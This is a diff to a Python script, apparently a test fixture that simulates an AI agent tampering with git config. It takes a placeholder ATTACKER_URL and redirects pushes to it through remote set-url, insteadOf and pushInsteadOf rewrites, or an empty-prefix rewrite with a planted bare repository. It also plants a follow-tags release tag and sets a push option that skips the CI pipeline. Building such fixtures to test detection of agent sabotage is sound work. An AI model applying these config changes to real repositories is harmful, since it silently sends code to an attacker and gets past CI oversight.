@@ -4,6 +4,13 @@ argv: ATTACKER_URL MODE. MODE "set-url" repoints `origin`; MODE "rewrite" leaves
 but makes git itself rewrite its URL (`url.*.insteadOf`, `url.*.pushInsteadOf`, and a remote
 section named after the URL, which git consults when it is given that URL). Either way, a push
 that trusts the repository's config after the agent ran lands with the attacker.
+
+The other modes steer what a push carries, or where, without naming the URL at all:
+- "empty-rewrite": `url.ATTACKER.insteadOf` with an empty value, a prefix of every URL, so git
+  pushes to ATTACKER followed by the real URL: a bare repository the agent makes there.
+- "follow-tags": `push.followTags` and an annotated tag on the base, which a push of any commit
+  on top of it would publish (a tag can start a release).
+- "push-option": `push.pushOption` (`ci.skip` skips a GitLab pipeline).
 """
 
 import subprocess
@@ -22,6 +29,14 @@ original = git("remote", "get-url", "origin").strip()
 if mode == "set-url":
     git("remote", "set-url", "origin", attacker)
     git("remote", "set-url", "--push", "origin", attacker)
+elif mode == "empty-rewrite":
+    git("config", f"url.{attacker}.insteadOf", "")
+    git("init", "-q", "--bare", f"{attacker}{original}")
+elif mode == "follow-tags":
+    git("config", "push.followTags", "true")
+    git("-c", "user.name=a", "-c", "user.email=a@example.com", "tag", "-a", "-m", "go", "v9.9.9")
+elif mode == "push-option":
+    git("config", "push.pushOption", "ci.skip")
 else:
     git("config", f"url.{attacker}.insteadOf", original)
     git("config", f"url.{attacker}.pushInsteadOf", original)
